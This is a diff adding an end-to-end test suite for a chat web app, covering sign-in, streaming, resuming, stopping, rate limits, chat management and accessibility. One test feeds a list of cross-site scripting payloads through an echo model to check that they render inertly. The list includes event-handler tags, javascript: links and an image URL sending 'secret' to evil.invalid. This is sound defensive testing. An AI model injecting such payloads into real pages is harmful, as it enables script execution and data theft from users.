@@ -1,0 +1,202 @@
+import assert from "node:assert/strict";
+import { expectAccessible } from "./axe.mjs";
+import * as on from "./page.mjs";
+
+/** Formatted text for a model that repeats what it is told; long enough to be met in the middle. */
+const paragraphs = Array.from({ length: 60 }, (_, i) => `Sentence number ${i + 1} is here once.`).join("\n\n");
+const formatted = `## A heading\n\nSome **bold** words.\n\n\`\`\`rust\nfn main() { let answer = 42; }\n\`\`\`\n\n${paragraphs}`;
+
+const hostile = [
+  "<img src=x onerror=\"window.owned=1\">",
+  "<script>window.owned=1</script>",
+  "<svg onload=window.owned=1><a xlink:href=javascript:alert(1)>s</a></svg>",
+  "![pixel](http://evil.invalid/x.png?q=secret)",
+  "[click](javascript:window.owned=1)",
+  "[data](data:text/html,<script>window.owned=1</script>)",
+  "<iframe src=http://evil.invalid></iframe>",
+  "<style>@import url(http://evil.invalid/x.css);</style>",
+  "A safe [link](https://example.org/).",
+].join("\n\n");
+
+export const steps = [
+  ["the sign-in page is accessible and says what is wrong", signInPage],
+  ["signing in", signIn],
+  ["the empty chat is accessible", emptyChat],
+  ["an answer streams as formatted text", streams],
+  ["a reload in the middle continues, and a second tab shows the same", resumes],
+  ["nothing is there twice", once],
+  ["Stop keeps the partial text", stops],
+  ["hostile output stays text", hostileOutput],
+  ["a rate limit counts down and can be waited for", rateLimit],
+  ["a chat is renamed and deleted", renameAndDelete],
+  ["a draft survives a reload", draft],
+  ["the chat page is accessible, also in the dark and on a phone", accessible],
+];
+
+async function signInPage({ page, shot }) {
+  await page.goto("/");
+  await page.getByRole("button", { name: "Create one" }).click();
+  await page.getByRole("textbox", { name: "Email" }).fill("nobody");
+  await page.getByLabel("Password").fill("short");
+  await page.getByRole("button", { name: "Create account" }).click();
+  await page.getByRole("alert").filter({ hasText: /\w/ }).first().waitFor();
+  await shot("sign-in-error");
+  await expectAccessible(page, "sign-in page");
+}
+
+async function signIn({ page, welcome, account, shot }) {
+  if (welcome) {
+    await page.goto(welcome);
+    // From `/` to `/welcome#…` is a new document, but from `/#…` it would not be.
+    await on.composer(page).waitFor();
+    assert.equal(new URL(page.url()).pathname, "/", "the one-time link must leave the address bar");
+    assert.ok(!page.url().includes(new URL(welcome).hash.slice(1)), "the token must leave the address bar");
+  } else {
+    await page.getByRole("textbox", { name: "Email" }).fill(account.email);
+    await page.getByLabel("Password").fill(account.password);
+    await page.getByRole("button", { name: "Create account" }).click();
+    await on.composer(page).waitFor();
+  }
+  const stored = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]));
+  assert.ok(!/ey[\w-]+\.[\w-]+\./.test(stored), "no token may be stored where scripts can read it");
+  await shot("empty");
+}
+
+async function emptyChat({ page }) {
+  for (const name of [/Stream something long/, /Simulate a rate limit/, /Stop in the middle/]) await page.getByRole("button", { name }).waitFor();
+  await expectAccessible(page, "empty chat");
+}
+
+async function streams({ page, shot }) {
+  await on.chooseModel(page, "sim-echo");
+  await on.send(page, formatted);
+  await page.getByText("Sentence number 1 is here once.").first().waitFor();
+  await on.answers(page).last().getByRole("heading", { name: "A heading" }).waitFor();
+  await on.answers(page).last().locator("code .hljs-keyword").first().waitFor();
+  await on.stopButton(page).waitFor();
+  assert.equal(await on.transcript(page).getAttribute("aria-live"), "off", "the transcript is silent while it grows");
+  await shot("streaming");
+}
+
+async function resumes({ page, context, shot }) {
+  await on.grown(page, 300);
+  await page.reload();
+  await on.stopButton(page).waitFor();
+  const second = await context.newPage();
+  await second.goto(page.url());
+  await on.stopButton(second).waitFor();
+  await shot("second-tab", second);
+  await on.settled(second);
+  await on.settled(page);
+  assert.equal(await on.answerText(second), await on.answerText(page), "both tabs show the same answer");
+  await second.close();
+}
+
+async function once({ page }) {
+  const check = async (when) => {
+    const text = await on.answerText(page);
+    for (const i of [1, 30, 60]) assert.equal(text.split(`Sentence number ${i} is here once.`).length - 1, 1, `sentence ${i}, ${when}`);
+    assert.equal(await on.answers(page).count(), 1, `one answer, ${when}`);
+  };
+  await check("after the stream");
+  assert.match(await on.answerText(page), /\d+ out/, "the tokens are shown");
+  await page.reload();
+  await on.settled(page);
+  await check("from the stored message");
+}
+
+async function stops({ page, shot }) {
+  await on.send(page, formatted);
+  await on.grown(page, 120);
+  await page.keyboard.press("Escape");
+  await page.getByText("Stopped by you, partial kept").waitFor();
+  await on.settled(page);
+  const text = await on.answerText(page);
+  assert.ok(text.length >= 100 && !text.includes("Sentence number 60"), `the answer is partial: ${text.length} characters`);
+  await shot("stopped");
+  await page.reload();
+  await on.settled(page);
+  assert.ok((await on.answerText(page)).startsWith(text.slice(0, 100)), "the partial text is stored");
+}
+
+async function hostileOutput({ page, faults, shot }) {
+  await on.newChat(page);
+  await on.chooseModel(page, "sim-echo");
+  await on.send(page, hostile);
+  await on.settled(page);
+  const found = await on.answers(page).last().evaluate((article) => ({
+    handlers: [...article.querySelectorAll("*")].flatMap((e) => [...e.attributes].filter((a) => a.name.startsWith("on")).map((a) => `${e.tagName} ${a.name}`)),
+    loading: article.querySelectorAll("img, script, iframe, style, link, object, embed, form, video, audio, base, meta").length,
+    links: [...article.querySelectorAll("a")].map((a) => ({ href: a.getAttribute("href"), rel: a.rel, target: a.target })),
+    owned: window.owned ?? null,
+  }));
+  assert.deepEqual(found.handlers, [], "no event handler attributes");
+  assert.equal(found.loading, 0, "nothing that loads or runs");
+  assert.equal(found.owned, null, "nothing ran");
+  for (const { href, rel, target } of found.links) {
+    assert.match(href, /^https?:/, `a link to ${href}`);
+    assert.equal(`${rel} ${target}`, "noopener noreferrer _blank");
+  }
+  assert.ok(found.links.some((link) => link.href === "https://example.org/"), "safe links work");
+  assert.deepEqual(faults, [], "no request left this origin");
+  await shot("hostile");
+}
+
+async function rateLimit({ page, shot }) {
+  await on.newChat(page);
+  await page.getByRole("button", { name: /Simulate a rate limit/ }).click();
+  await page.getByText(/Rate limited, retrying in 0:0\d \(attempt \d\)/).waitFor();
+  await page.getByRole("button", { name: "Cancel", exact: true }).waitFor();
+  await shot("rate-limit");
+  await expectAccessible(page, "waiting chat");
+  await page.getByRole("button", { name: "Cancel", exact: true }).click();
+  await page.getByText("Stopped by you").first().waitFor();
+}
+
+async function renameAndDelete({ page, shot }) {
+  const options = () => page.getByRole("button", { name: /^Options of/ }).first();
+  await options().click();
+  await page.getByRole("menuitem", { name: "Rename" }).waitFor();
+  await shot("menu");
+  await expectAccessible(page, "menu of a chat");
+  await page.getByRole("menuitem", { name: "Rename" }).click();
+  await page.getByRole("textbox", { name: "Name of the chat" }).fill("A new name");
+  await page.keyboard.press("Enter");
+  await page.getByRole("link", { name: "A new name" }).waitFor();
+  await page.getByRole("heading", { name: "A new name", level: 1 }).waitFor();
+  await options().click();
+  await page.getByRole("menuitem", { name: "Delete" }).click();
+  await page.getByRole("dialog", { name: "Delete this chat?" }).waitFor();
+  await expectAccessible(page, "dialog");
+  await page.getByRole("button", { name: "Delete", exact: true }).click();
+  await page.getByRole("link", { name: "A new name" }).waitFor({ state: "detached" });
+}
+
+async function draft({ page }) {
+  await on.composer(page).fill("Not sent yet");
+  await page.reload();
+  await on.composer(page).waitFor();
+  assert.equal(await on.composer(page).inputValue(), "Not sent yet");
+  await on.composer(page).fill("");
+}
+
+async function accessible({ page, shot }) {
+  await page.getByRole("navigation").getByRole("link").last().click();
+  await on.settled(page);
+  await expectAccessible(page, "chat page");
+  await shot("chat-light");
+  await page.getByRole("button", { name: /^Account and theme/ }).click();
+  await page.getByRole("menuitemradio", { name: "Dark" }).click();
+  await shot("theme-menu");
+  await page.keyboard.press("Escape");
+  await expectAccessible(page, "dark chat page");
+  await shot("chat-dark");
+  await page.setViewportSize({ width: 390, height: 844 });
+  await shot("phone-dark");
+  await expectAccessible(page, "phone");
+  await page.getByRole("button", { name: "List of chats" }).click();
+  await page.getByRole("button", { name: "Close", exact: true }).waitFor();
+  await page.waitForTimeout(300);
+  await shot("phone-drawer");
+  await expectAccessible(page, "drawer on a phone");
+}
